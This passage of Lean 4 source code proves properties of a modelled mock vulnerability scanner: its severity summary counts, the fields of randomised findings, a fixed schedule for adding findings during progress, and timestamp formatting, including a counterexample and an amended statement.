finding with an unknown severity string, which leaves the summary
unchanged. -/
theorem C9_missing_severity_counts_info (vs : List FindingRecord) :
    getCount (generate_summary ⟨vs ++ [⟨Option.none⟩]⟩) "info" =
      getCount (generate_summary ⟨vs⟩) "info" + 1 ∧
    generate_summary ⟨vs ++ [⟨some "critical"⟩]⟩ = generate_summary ⟨vs⟩ := by
  constructor
  · show getCount ((vs ++ [FindingRecord.mk Option.none]).foldl summaryStep
        [("high", 0), ("medium", 0), ("low", 0), ("info", 0)]) "info" =
      getCount (vs.foldl summaryStep
        [("high", 0), ("medium", 0), ("low", 0), ("info", 0)]) "info" + 1
    rw [summary_foldl_form, summary_foldl_form]
    have hn : effSev (FindingRecord.mk Option.none) = "info" := by decide
    simp [getCount, List.countP_append, hn]
  · show (vs ++ [FindingRecord.mk (some "critical")]).foldl summaryStep
        [("high", 0), ("medium", 0), ("low", 0), ("info", 0)] =
      vs.foldl summaryStep [("high", 0), ("medium", 0), ("low", 0), ("info", 0)]
    rw [summary_foldl_form, summary_foldl_form]
    have hc : effSev (FindingRecord.mk (some "critical")) = "critical" := by decide
    simp [List.countP_append, hc]

/-- C6: a finding whose severity is `low` or `info` has empty `param`,
`attack` and `evidence` fields; a finding whose severity is `high` or
`medium` draws each of those three fields from its fixed candidate set,
which for the attack payload includes the empty string as a valid
candidate. -/
theorem C6_finding_fields (c : VulnChoices) (target : String) (severity? : Option String) :
    ((add_random_vulnerability c target severity?).severity = SEVERITY_LOW ∨
        (add_random_vulnerability c target severity?).severity = SEVERITY_INFO →
      (add_random_vulnerability c target severity?).param = "" ∧
      (add_random_vulnerability c target severity?).attack = "" ∧
      (add_random_vulnerability c target severity?).evidence = "") ∧
    ((add_random_vulnerability c target severity?).severity = SEVERITY_HIGH ∨
        (add_random_vulnerability c target severity?).severity = SEVERITY_MEDIUM →
      (add_random_vulnerability c target severity?).param ∈ paramCandidates ∧
      (add_random_vulnerability c target severity?).attack ∈ attackCandidates ∧
      (add_random_vulnerability c target severity?).evidence ∈ evidenceCandidates) ∧
    "" ∈ attackCandidates := by
  have hsev : (add_random_vulnerability c target severity?).severity
      = chosenSeverity c severity? := rfl
  have hparam : (add_random_vulnerability c target severity?).param =
      (if chosenSeverity c severity? = SEVERITY_HIGH ∨
          chosenSeverity c severity? = SEVERITY_MEDIUM
       then pyChoice paramCandidates c.paramIdx else "") := rfl
  have hattack : (add_random_vulnerability c target severity?).attack =
      (if chosenSeverity c severity? = SEVERITY_HIGH ∨
          chosenSeverity c severity? = SEVERITY_MEDIUM
       then pyChoice attackCandidates c.attackIdx else "") := rfl
  have hevid : (add_random_vulnerability c target severity?).evidence =
      (if chosenSeverity c severity? = SEVERITY_HIGH ∨
          chosenSeverity c severity? = SEVERITY_MEDIUM
       then pyChoice evidenceCandidates c.evidenceIdx else "") := rfl
  refine ⟨?_, ?_, by decide⟩
  · intro h
    rw [hsev] at h
    have hcond : ¬(chosenSeverity c severity? = SEVERITY_HIGH ∨
        chosenSeverity c severity? = SEVERITY_MEDIUM) := by
      rcases h with h | h <;> rw [h] <;> decide
    rw [hparam, hattack, hevid, if_neg hcond, if_neg hcond, if_neg hcond]
    exact ⟨rfl, rfl, rfl⟩
  · intro h
    rw [hsev] at h
    rw [hparam, hattack, hevid, if_pos h, if_pos h, if_pos h]
    exact ⟨pyChoice_mem _ _ (by decide), pyChoice_mem _ _ (by decide),
           pyChoice_mem _ _ (by decide)⟩

/-- Witness for C6: one draw that selects `high` severity (fields drawn
from the candidate sets) and one that selects `low` (fields empty). -/
theorem C6_finding_fields_witness :
    ((add_random_vulnerability ⟨1, 2, 0, 0, 0, fun _ => 0, 0, 0, 0, 0, 0⟩
        "http://t" none).param ∈ paramCandidates ∧
     (add_random_vulnerability ⟨1, 2, 0, 0, 0, fun _ => 0, 0, 0, 0, 0, 0⟩
        "http://t" none).attack ∈ attackCandidates ∧
     (add_random_vulnerability ⟨1, 2, 0, 0, 0, fun _ => 0, 0, 0, 0, 0, 0⟩
        "http://t" none).evidence ∈ evidenceCandidates) ∧
    ((add_random_vulnerability ⟨1, 2, 2, 0, 0, fun _ => 0, 0, 0, 0, 0, 0⟩
        "http://t" none).param = "" ∧
     (add_random_vulnerability ⟨1, 2, 2, 0, 0, fun _ => 0, 0, 0, 0, 0, 0⟩
        "http://t" none).attack = "" ∧
     (add_random_vulnerability ⟨1, 2, 2, 0, 0, fun _ => 0, 0, 0, 0, 0, 0⟩
        "http://t" none).evidence = "") :=
  ⟨(C6_finding_fields ⟨1, 2, 0, 0, 0, fun _ => 0, 0, 0, 0, 0, 0⟩ "http://t" none).2.1
      (Or.inl rfl),
   (C6_finding_fields ⟨1, 2, 2, 0, 0, fun _ => 0, 0, 0, 0, 0, 0⟩ "http://t" none).1
      (Or.inl rfl)⟩

/-- `range(1, 101)` split at its last step. -/
theorem range'_one_to_hundred_split :
    List.range' 1 100 = List.range' 1 99 ++ [100] := by
  simpa using List.range'_concat 1 99

/-- A progression step never touches the scan's start time. -/
theorem scanStep_start_time (gen : Nat → VulnChoices) (clock : Nat → Nat)
    (target : String) (s : Scan) (i : Nat) :
    (scanStep gen clock target s i).start_time = s.start_time := by
  simp only [scanStep]
  split_ifs <;> rfl

/-- No progression step touches the scan's start time. -/
theorem foldl_scanStep_start_time (gen : Nat → VulnChoices) (clock : Nat → Nat)
    (target : String) (l : List Nat) (s : Scan) :
    (l.foldl (scanStep gen clock target) s).start_time = s.start_time := by
  induction l generalizing s with
  | nil => rfl
  | cons i l ih => rw [List.foldl_cons, ih, scanStep_start_time]

/-- Before the completion step, a progression step appends exactly one
finding when `i % 15 == 0 and i < 80` and none otherwise. -/
theorem scanStep_vulns_of_ne100 (gen : Nat → VulnChoices) (clock : Nat → Nat)
    (target : String) (s : Scan) (i : Nat) (h : i ≠ 100) :
    (scanStep gen clock target s i).vulnerabilities =
      if i % 15 = 0 ∧ i < 80 then
        s.vulnerabilities ++ [add_random_vulnerability (gen i) target none]
      else s.vulnerabilities := by
  simp only [scanStep, if_neg h]
  split_ifs <;> rfl

/-- The completion step: status, progress and end time after step 100. -/
theorem scanStep_100_fields (gen : Nat → VulnChoices) (clock : Nat → Nat)
    (target : String) (s : Scan) :
    (scanStep gen clock target s 100).status = SCAN_STATUS_COMPLETED ∧
    (scanStep gen clock target s 100).progress = 100 ∧
    (scanStep gen clock target s 100).end_time = some (clock 100) := by
  simp only [scanStep]
  split_ifs <;> exact ⟨rfl, rfl, rfl⟩

/-- The completion step: the forced low-severity injection fires exactly
when the finding list is still empty at step 100. -/
theorem scanStep_100_vulns (gen : Nat → VulnChoices) (clock : Nat → Nat)
    (target : String) (s : Scan) :
    (scanStep gen clock target s 100).vulnerabilities =
      if s.vulnerabilities.isEmpty then
        s.vulnerabilities ++ [add_random_vulnerability (gen 100) target (some SEVERITY_LOW)]
      else s.vulnerabilities := by
  simp only [scanStep]
  split_ifs <;> first
    | rfl
    | simp_all

/-- Folding progression steps that all lie below the completion step grows
the finding list by the number of steps passing the `i % 15 == 0 and
i < 80` test. -/
theorem foldl_scanStep_length (gen : Nat → VulnChoices) (clock : Nat → Nat)
    (target : String) (l : List Nat) (s : Scan) (hl : ∀ i ∈ l, i ≤ 99) :
    (l.foldl (scanStep gen clock target) s).vulnerabilities.length =
      s.vulnerabilities.length + l.countP (fun i => decide (i % 15 = 0 ∧ i < 80)) := by
  induction l generalizing s with
  | nil => simp
  | cons i l ih =>
    have hi : i ≠ 100 := by
      have := hl i (List.mem_cons_self i l)
      omega
    rw [List.foldl_cons, ih _ (fun j hj => hl j (List.mem_cons_of_mem i hj)),
        scanStep_vulns_of_ne100 _ _ _ _ _ hi, List.countP_cons]
    by_cases hc : i % 15 = 0 ∧ i < 80
    · simp [hc]
      omega
    · simp [hc]

/-- C3: a scan whose simulated progression has run to step 100 is
`completed` with progress exactly 100, and its end time is set to the
clock reading of the completion step, which is at least the start time. -/
theorem C3_completed_progress_end_time (now rand : Nat) (target : String)
    (ua : Option String) (gen : Nat → VulnChoices) (clock : Nat → Nat)
    (hclock : now ≤ clock 100) :
    (update_progress gen clock target (start_scan now rand target ua).2).status
        = SCAN_STATUS_COMPLETED ∧
    (update_progress gen clock target (start_scan now rand target ua).2).progress = 100 ∧
    (update_progress gen clock target (start_scan now rand target ua).2).end_time
        = some (clock 100) ∧
    (update_progress gen clock target (start_scan now rand target ua).2).start_time
        ≤ clock 100 := by
  unfold update_progress
  rw [range'_one_to_hundred_split, List.foldl_append, List.foldl_cons, List.foldl_nil]
  obtain ⟨hs, hp, he⟩ := scanStep_100_fields gen clock target
    ((List.range' 1 99).foldl (scanStep gen clock target) (start_scan now rand target ua).2)
  refine ⟨hs, hp, he, ?_⟩
  rw [scanStep_start_time, foldl_scanStep_start_time]
  exact hclock

/-- Witness for C3 with a concrete oracle and a clock that has advanced
by the completion step. -/
theorem C3_completed_progress_end_time_witness :
    (update_progress (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩)
        (fun i => 1000 + i) "http://t" (start_scan 42 7 "http://t" none).2).status
        = SCAN_STATUS_COMPLETED ∧
    (update_progress (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩)
        (fun i => 1000 + i) "http://t" (start_scan 42 7 "http://t" none).2).progress = 100 ∧
    (update_progress (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩)
        (fun i => 1000 + i) "http://t" (start_scan 42 7 "http://t" none).2).end_time
        = some 1100 ∧
    (update_progress (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩)
        (fun i => 1000 + i) "http://t" (start_scan 42 7 "http://t" none).2).start_time
        ≤ 1100 :=
  C3_completed_progress_end_time 42 7 "http://t" none
    (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩) (fun i => 1000 + i) (by decide)

/-- C4: every completed scan has a non-empty finding list, and when the
list is still empty at the completion step, exactly one finding — the
forced low-severity one — is appended at that moment. -/
theorem C4_completed_nonempty (now rand : Nat) (target : String) (ua : Option String)
    (gen : Nat → VulnChoices) (clock : Nat → Nat) (s : Scan)
    (hs : s.vulnerabilities = []) :
    (update_progress gen clock target (start_scan now rand target ua).2).vulnerabilities
        ≠ [] ∧
    (scanStep gen clock target s 100).vulnerabilities
        = [add_random_vulnerability (gen 100) target (some SEVERITY_LOW)] ∧
    (add_random_vulnerability (gen 100) target (some SEVERITY_LOW)).severity
        = SEVERITY_LOW := by
  refine ⟨?_, ?_, rfl⟩
  · unfold update_progress
    rw [range'_one_to_hundred_split, List.foldl_append, List.foldl_cons, List.foldl_nil]
    have hmidlen : ((List.range' 1 99).foldl (scanStep gen clock target)
        (start_scan now rand target ua).2).vulnerabilities.length =
        (start_scan now rand target ua).2.vulnerabilities.length +
          (List.range' 1 99).countP (fun i => decide (i % 15 = 0 ∧ i < 80)) :=
      foldl_scanStep_length gen clock target _ _ (by
        intro j hj
        rw [List.mem_range'_1] at hj
        omega)
    have hc5 : (List.range' 1 99).countP (fun i => decide (i % 15 = 0 ∧ i < 80)) = 5 := by
      decide
    have hne : ((List.range' 1 99).foldl (scanStep gen clock target)
        (start_scan now rand target ua).2).vulnerabilities ≠ [] := by
      intro h0
      rw [h0, show (start_scan now rand target ua).2.vulnerabilities.length = 0 from rfl,
        hc5] at hmidlen
      simp at hmidlen
    rw [scanStep_100_vulns]
    simp only [List.isEmpty_iff]
    rw [if_neg hne]
    exact hne
  · rw [scanStep_100_vulns, hs]
    rfl

/-- Witness for C4 from a scan state with an empty finding list. -/
theorem C4_completed_nonempty_witness :
    (update_progress (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩)
        (fun i => 1000 + i) "http://t" (start_scan 42 7 "http://t" none).2).vulnerabilities
        ≠ [] ∧
    (scanStep (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩)
        (fun i => 1000 + i) "http://t" (start_scan 42 7 "http://t" none).2 100).vulnerabilities
        = [add_random_vulnerability ⟨100, 100, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩
            "http://t" (some SEVERITY_LOW)] ∧
    (add_random_vulnerability ⟨100, 100, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩
        "http://t" (some SEVERITY_LOW)).severity = SEVERITY_LOW :=
  C4_completed_nonempty 42 7 "http://t" none
    (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩) (fun i => 1000 + i)
    (start_scan 42 7 "http://t" none).2 rfl

/-- C5: during progression, a step `i` before completion appends exactly
one randomized finding when `i % 15 == 0 and i < 80` (steps 15, 30, 45,
60, 75) and none otherwise, so the 99 steps before the completion step
produce exactly five findings. -/
theorem C5_finding_schedule (now rand : Nat) (target : String) (ua : Option String)
    (gen : Nat → VulnChoices) (clock : Nat → Nat) (s : Scan) (i : Nat)
    (hlo : 1 ≤ i) (hhi : i ≤ 99) :
    ((scanStep gen clock target s i).vulnerabilities =
      if i % 15 = 0 ∧ i < 80 then
        s.vulnerabilities ++ [add_random_vulnerability (gen i) target none]
      else s.vulnerabilities) ∧
    ((List.range' 1 99).foldl (scanStep gen clock target)
        (start_scan now rand target ua).2).vulnerabilities.length = 5 := by
  constructor
  · exact scanStep_vulns_of_ne100 _ _ _ _ _ (by omega)
  · rw [foldl_scanStep_length gen clock target _ _ (by
      intro j hj
      rw [List.mem_range'_1] at hj
      omega)]
    rw [show (start_scan now rand target ua).2.vulnerabilities.length = 0 from rfl]
    decide

/-- Witness for C5: step 15 appends exactly one finding, and the 99
pre-completion steps yield exactly five findings. -/
theorem C5_finding_schedule_witness :
    ((scanStep (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩)
        (fun i => 1000 + i) "http://t" (start_scan 42 7 "http://t" none).2 15).vulnerabilities
      = (start_scan 42 7 "http://t" none).2.vulnerabilities ++
        [add_random_vulnerability ⟨15, 15, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩
          "http://t" none]) ∧
    ((List.range' 1 99).foldl
        (scanStep (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩)
          (fun i => 1000 + i) "http://t")
        (start_scan 42 7 "http://t" none).2).vulnerabilities.length = 5 :=
  ⟨(C5_finding_schedule 42 7 "http://t" none
      (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩) (fun i => 1000 + i)
      (start_scan 42 7 "http://t" none).2 15 (by decide) (by decide)).1,
   (C5_finding_schedule 42 7 "http://t" none
      (fun i => ⟨i, i, 0, 0, 0, fun j => j, 0, 0, 0, 0, 0⟩) (fun i => 1000 + i)
      (start_scan 42 7 "http://t" none).2 15 (by decide) (by decide)).2⟩

/-- Every bounded digit renders as a decimal digit character. -/
theorem digitCharAux_isDigit : ∀ m < 10, (digitCharAux m).isDigit = true := by
  decide

/-- `digitChar` always yields a decimal digit character. -/
theorem digitChar_isDigit (n : Nat) : (digitChar n).isDigit = true :=
  digitCharAux_isDigit (n % 10) (Nat.mod_lt n (by omega))

/-- The characters of a rendered date-time. -/
theorem formatDateTime_toList (dt : DateTime) :
    (formatDateTime dt).toList =
      [digitChar (dt.day / 10), digitChar dt.day, '/',
       digitChar (dt.month / 10), digitChar dt.month, '/',
       digitChar (dt.year / 1000), digitChar (dt.year / 100),
       digitChar (dt.year / 10), digitChar dt.year, ' ',
       digitChar (dt.hour / 10), digitChar dt.hour, ':',
       digitChar (dt.minute / 10), digitChar dt.minute, ':',
       digitChar (dt.second / 10), digitChar dt.second] := by
  show (formatDateTime dt).data = _
  simp [formatDateTime, pad2, pad4, String.data_append]

/-- Whatever the civil fields are, the rendered date-time has the
`DD/MM/YYYY HH:MM:SS` shape. -/
theorem isDateTimeForm_formatDateTime (dt : DateTime) :
    isDateTimeForm (formatDateTime dt) = true := by
  have h : (formatDateTime dt).data =
      [digitChar (dt.day / 10), digitChar dt.day, '/',
       digitChar (dt.month / 10), digitChar dt.month, '/',
       digitChar (dt.year / 1000), digitChar (dt.year / 100),
       digitChar (dt.year / 10), digitChar dt.year, ' ',
       digitChar (dt.hour / 10), digitChar dt.hour, ':',
       digitChar (dt.minute / 10), digitChar dt.minute, ':',
       digitChar (dt.second / 10), digitChar dt.second] := formatDateTime_toList dt
  simp [isDateTimeForm, String.length, h, digitChar_isDigit]

/-- Counterexample for C7 as stated: the number `0` is formatted as
`"N/A"`, not as a `DD/MM/YYYY HH:MM:SS` date; the empty string (which
fails to parse) is also rendered `"N/A"` instead of being returned
unchanged; and a number outside the representable datetime range
(`253402300800` is the first second of year 10000) falls back to its
decimal string rather than a formatted date. -/
theorem C7_format_timestamp_counterexample :
    (format_timestamp 0 (.num 0) = "N/A" ∧
      isDateTimeForm (format_timestamp 0 (.num 0)) = false) ∧
    (format_timestamp 0 (.str "") = "N/A" ∧
      format_timestamp 0 (.str "") ≠ "") ∧
    (format_timestamp 0 (.num 253402300800) = "253402300800" ∧
      isDateTimeForm (format_timestamp 0 (.num 253402300800)) = false) := by
  refine ⟨⟨rfl, rfl⟩, ⟨rfl, by decide⟩, ⟨by decide, by decide⟩⟩

/-- C7 as amended: `_format_timestamp` is total (never raises); a nonzero
number whose instant the datetime type can represent is rendered in the
`DD/MM/YYYY HH:MM:SS` shape, while an unrepresentable one falls back to
its decimal string; `None` yields exactly `"N/A"`; a nonempty string is
rendered in the date shape when it parses and returned unchanged when it
does not. -/
theorem C7_format_timestamp_amended (tz : Int) (n : Int) (s : String)
    (hn : n ≠ 0) (hs : s ≠ "") :
    (∀ dt, fromtimestamp tz n = some dt →
      isDateTimeForm (format_timestamp tz (.num n)) = true) ∧
    (fromtimestamp tz n = none → format_timestamp tz (.num n) = toString n) ∧
    (format_timestamp tz .none = "N/A") ∧
    (∀ dt, fromisoformat (pyReplaceZ s) = some dt →
      isDateTimeForm (format_timestamp tz (.str s)) = true) ∧
    (fromisoformat (pyReplaceZ s) = none → format_timestamp tz (.str s) = s) := by
  have hfn : pyFalsy (.num n) = false := by
    simp [pyFalsy, hn]
  have hfs : pyFalsy (.str s) = false := by
    simp [pyFalsy, hs]
  refine ⟨fun dt hdt => ?_, fun hdt => ?_, rfl, fun dt hdt => ?_, fun hdt => ?_⟩
  · rw [show format_timestamp tz (.num n) = formatDateTime dt by
      simp [format_timestamp, hfn, hdt]]
    exact isDateTimeForm_formatDateTime dt
  · simp [format_timestamp, hfn, hdt, pyStr]
  · rw [show format_timestamp tz (.str s) = formatDateTime dt by
      simp [format_timestamp, hfs, hdt]]
    exact isDateTimeForm_formatDateTime dt
  · simp [format_timestamp, hfs, hdt]

/-- Witness for C7 (amended) at the spec's own test inputs: `1700000000`
formats to a date-shaped, non-`"N/A"` string; `None` gives `"N/A"`;
`"not-a-date"` is returned unchanged. -/
theorem C7_format_timestamp_amended_witness :
    isDateTimeForm (format_timestamp 0 (.num 1700000000)) = true ∧
    format_timestamp 0 .none = "N/A" ∧
    format_timestamp 0 (.str "not-a-date") = "not-a-date" :=
  ⟨(C7_format_timestamp_amended 0 1700000000 "not-a-date" (by decide) (by decide)).1
      { year := 2023, month := 11, day := 14, hour := 22, minute := 13, second := 20 }
      (by decide),
   (C7_format_timestamp_amended 0 1700000000 "not-a-date" (by decide) (by decide)).2.2.1,
   (C7_format_timestamp_amended 0 1700000000 "not-a-date" (by decide) (by decide)).2.2.2.2
      (by decide)⟩
